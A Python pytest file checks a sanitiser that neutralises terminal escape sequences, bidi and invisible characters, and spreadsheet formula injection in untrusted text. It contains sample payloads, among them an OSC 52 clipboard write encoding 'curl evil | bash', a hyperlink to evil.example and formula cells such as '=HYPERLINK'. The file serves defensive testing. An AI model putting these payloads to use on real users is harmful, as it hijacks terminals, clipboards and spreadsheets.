"""The untrusted-text gate: nothing that steers a terminal gets through, and
what was neutralised stays visible."""

from __future__ import annotations

import pytest

from deskapp.text import (
    ESC_MARK,
    UNSAFE,
    clean,
    csv_cell,
    one_line,
    without_surrogates,
)

HOSTILE = {
    "osc52 clipboard write": "a\x1b]52;c;Y3VybCBldmlsIHwgYmFzaAo=\x1b\\b",
    "osc 0 title, BEL end": "a\x1b]0;owned\x07b",
    "osc 8 hyperlink": "a\x1b]8;;https://evil.example\x1b\\b",
    "clear screen": "a\x1b[2Jb",
    "colour": "a\x1b[5;31mb",
    "8-bit CSI": "a\x9b31mb",
    "8-bit OSC": "a\x9d0;title\x9cb",
    "DCS": "a\x1bPqpayload\x1b\\b",
    "APC": "a\x1b_payload\x1b\\b",
    "reset terminal": "a\x1bcb",
    "lone C1 (NEL)": "a\x85b",
}


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_escape_sequences_become_one_visible_marker(payload: str) -> None:
    """The text around stays; the sequence shows as ␛, its payload is gone."""
    assert clean(payload) == f"a{ESC_MARK}b"


def test_an_unterminated_string_sequence_hides_nothing_after_it() -> None:
    """An OSC without its end does not swallow the rest of the post."""
    assert clean("ab\x1b]52;c;AAAA\nEn verder") == f"ab{ESC_MARK}52;c;AAAA\nEn verder"


def test_controls_and_bidi_overrides_become_visible_markers() -> None:
    """Trojan-source bidi characters and NUL/BEL/DEL show as what they are."""
    assert clean("factuur\u202egnp.exe") == "factuur⟪U+202E⟫gnp.exe"
    assert clean("a\u2066b\u2069c") == "a⟪U+2066⟫b⟪U+2069⟫c"
    assert clean("a\x00b\x07c\x7fd\x1fe") == "a␀b␇c␡d␟e"
    assert clean("\ufeffBOM") == "BOM"


@pytest.mark.parametrize(
    ("text", "shown"),
    [("a\u200bb", "a⟪U+200B⟫b"), ("a\u2060b", "a⟪U+2060⟫b"),
     ("\u200e\u200f\u061c", "⟪U+200E⟫⟪U+200F⟫⟪U+061C⟫"),
     ("\u3164\u115f", "⟪U+3164⟫⟪U+115F⟫"), ("x\U000e0041y", "x⟪U+E0041⟫y"),
     ("jan\u200dde", "jan⟪U+200D⟫de"), ("jan\u200cde", "jan⟪U+200C⟫de"),
     ("\U000e0001", "⟪U+E0001⟫")],
    ids=["zero-width space", "word joiner", "LRM RLM ALM", "Hangul fillers",
         "tag character", "ZWJ between letters", "ZWNJ in Latin", "language tag"],
)  # fmt: skip
def test_invisible_characters_become_visible(text: str, shown: str) -> None:
    """What could hide or disguise text (a name that looks like another)
    shows as its code point."""
    assert clean(text) == shown


@pytest.mark.parametrize(
    "text",
    ["👩\u200d💻", "🏳\ufe0f\u200d🌈", "क\u094d\u200dष", "می\u200cخواهم",
     "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
     "Zelf\xadstandig"],
    ids=["emoji ZWJ", "flag ZWJ", "Devanagari ZWJ", "Persian ZWNJ",
         "Scotland flag tags", "soft hyphen"],
)  # fmt: skip
def test_joiners_doing_their_job_stay(text: str) -> None:
    """Emoji sequences, Indic and Persian words and subdivision flags are
    left as written."""
    assert clean(text) == text


def test_nothing_unsafe_survives_a_soup_of_controls() -> None:
    """Every code point below U+00A0 and every bidi control, in one string."""
    soup = "".join(chr(c) for c in range(0xA0)) + "\u202a\u202b\u202c\u202d\u202e"
    soup += "\u2066\u2067\u2068\u2069"
    out = clean(soup * 3)
    assert not UNSAFE.search(out)
    assert "\t" in out and "\n" in out


def test_a_lone_surrogate_becomes_a_replacement_character() -> None:
    """Half a UTF-16 pair (JSON's ``"\\ud800"``) cannot be written as UTF-8:
    it shows as U+FFFD, and the cleaned text can be encoded."""
    out = clean("\ud800X\udfff \udbff")
    assert out == "\ufffdX\ufffd \ufffd"
    assert out.encode("utf-8")
    assert one_line("a\udc00\nb") == "a\ufffd b"
    value = {"t\ud800": ["\udfffx", 3, None, {"k": "\ud83d"}], "ok": "😀"}
    assert without_surrogates(value) == {
        "t\ufffd": ["\ufffdx", 3, None, {"k": "\ufffd"}], "ok": "😀"
    }  # fmt: skip


def test_ordinary_dutch_text_and_brackets_are_untouched() -> None:
    """Accents, euro signs, newlines, tabs and [brackets] survive as written."""
    text = "[OPGELOST] Uitkering €1.200,-\n\tcoöperatie café [@click=app.quit]x"
    assert clean(text) == text


def test_carriage_returns_become_newlines() -> None:
    """A CR cannot be used to overwrite a line on the terminal."""
    assert clean("line1\r\nline2\rline3") == "line1\nline2\nline3"


def test_one_line_folds_and_cuts_with_a_visible_ellipsis() -> None:
    """Table cells get one line, cut with an ellipsis."""
    assert one_line("Hoe  zit\n\nhet?\x1b[2J", 8) == "Hoe zit…"
    assert one_line("Hoe zit het?\x1b[2J") == f"Hoe zit het?{ESC_MARK}"
    assert one_line("x" * 5000, 80) == "x" * 79 + "…"
    assert one_line(None) == ""


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("x")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\xa0 =1",
     "\u3000+1", "\uff1d1", "\tHallo"],
)  # fmt: skip
def test_csv_cells_cannot_start_a_formula(cell: str) -> None:
    """Spreadsheets must not execute a title as a formula."""
    assert csv_cell(cell).startswith("'")
    assert csv_cell("Huur = hoog") == "Huur = hoog"


@pytest.mark.parametrize(
    ("text", "cell"),
    [("Vraag;=1+2", "Vraag;'=1+2"), ("ok; -2+3", "ok; '-2+3"),
     ('Huur;"=H(1)"', 'Huur;"\'=H(1)"'), ("regel\n+1", "regel\n'+1"),
     ("a\t@b", "a\t'@b"), ("Huur; hoog - laag", "Huur; hoog - laag")],
)  # fmt: skip
def test_a_formula_after_a_semicolon_tab_or_line_break_is_defused(
    text: str, cell: str
) -> None:
    """Dutch Excel splits on ';' (and imports on tabs): what starts a cell
    there cannot start a formula either."""
    assert csv_cell(text) == cell
